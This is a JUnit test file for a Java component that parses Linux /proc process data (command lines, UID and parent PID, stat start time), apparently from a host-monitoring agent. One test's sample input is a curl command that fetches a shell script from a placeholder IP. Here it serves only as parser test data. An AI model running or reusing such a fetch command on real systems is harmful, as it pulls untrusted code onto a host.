package io.microagent.collect.process;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class ProcFilesTest {
    @Test
    void commandLinesJoinArgumentsWithSingleSpaces() {
        assertEquals("/usr/bin/curl -s http://198.51.100.7/x.sh",
                ProcFiles.commandLine("/usr/bin/curl\0-s\0http://198.51.100.7/x.sh\0".getBytes(StandardCharsets.UTF_8)));
        assertEquals("ls /tmp/a b", ProcFiles.commandLine("ls\0/tmp/a b\0".getBytes(StandardCharsets.UTF_8)));
        assertEquals("", ProcFiles.commandLine(new byte[0]));
        assertEquals("sh  x", ProcFiles.commandLine("sh\0\0x\0".getBytes(StandardCharsets.UTF_8)), "an empty argument stays");
    }

    @Test
    void statusGivesRealUidAndParent() {
        String status = "Name:\tsleep\nUmask:\t0022\nState:\tS (sleeping)\nTgid:\t42\nPid:\t42\nPPid:\t7\n"
                + "Uid:\t1000\t0\t0\t0\nGid:\t1000\t1000\t1000\t1000\n";
        assertArrayEquals(new int[] {1000, 7}, ProcFiles.uidAndParent(status));
        assertArrayEquals(new int[] {-1, -1}, ProcFiles.uidAndParent("Name:\tx\nUid:\tgarbled\n"));
    }

    @Test
    void startTimeIsCountedAfterTheCommandName() {
        String stat = "4242 (evil) name) S 1 4242 4242 0 -1 4194560 100 0 0 0 1 2 0 0 20 0 1 0 987654 1000 100";
        assertEquals(987654, ProcFiles.statField(stat, 22));
        assertEquals(-1, ProcFiles.statField("4242 (trunc", 22));
        assertEquals(-1, ProcFiles.statField("4242 (x) S 1", 22));
    }
}
